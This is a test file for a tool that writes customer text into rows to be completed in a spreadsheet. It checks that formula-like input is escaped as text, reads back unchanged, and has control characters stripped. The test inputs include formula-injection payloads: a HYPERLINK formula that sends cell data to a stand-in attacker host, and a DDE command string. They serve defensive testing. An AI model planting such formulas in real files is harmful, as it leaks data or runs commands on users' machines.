import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { trainingColumns, trainingRow } from '../../lib/cli/correction-lines.ts';
import { readProposed } from '../../lib/cli/read-proposed.ts';

const folder = mkdtempSync(join(tmpdir(), 'meridian-rows-'));
afterAll(() => rmSync(folder, { recursive: true }));

const labels = { language: 'en', category: 'technical', urgency: 'normal' } as const;
const rowOf = (text: string) =>
  trainingRow({ reference: 'MR-A', text, before: labels, after: labels }, () => 'page-broken');

describe('a row for people to complete in a spreadsheet', () => {
  const formulas = [
    '=HYPERLINK("https://evil.example/?"&A1,"refund")',
    '+1+cmd|x!A1',
    '-2+3 days late',
    '@SUM(1)',
    '  =1+1',
    '＝1+1',
  ];

  it.each(formulas)('is text there, though a customer wrote %j', (formula) => {
    const cell = rowOf(formula).split('\t')[4] ?? '';
    expect(cell.replace(/^"/, '')).toMatch(/^'/);
  });

  it('is read back as the customer wrote it', async () => {
    const texts = [...formulas, "'quoted' words", "'=1+1", 'It is -2 = here'];
    const file = join(folder, 'rows.tsv');
    writeFileSync(file, [trainingColumns, ...texts.map(rowOf)].join('\n'));
    const { examples, problems } = await readProposed(file, 'page-broken');
    expect(problems).toEqual([]);
    expect(examples.map(({ text }) => text)).toEqual(texts.map((text) => text.trim()));
  });

  it('holds no control characters', () => {
    expect(rowOf('a\u001b[31mb\u0000c\u0085d')).toContain('\ta [31mb c d\t');
  });
});
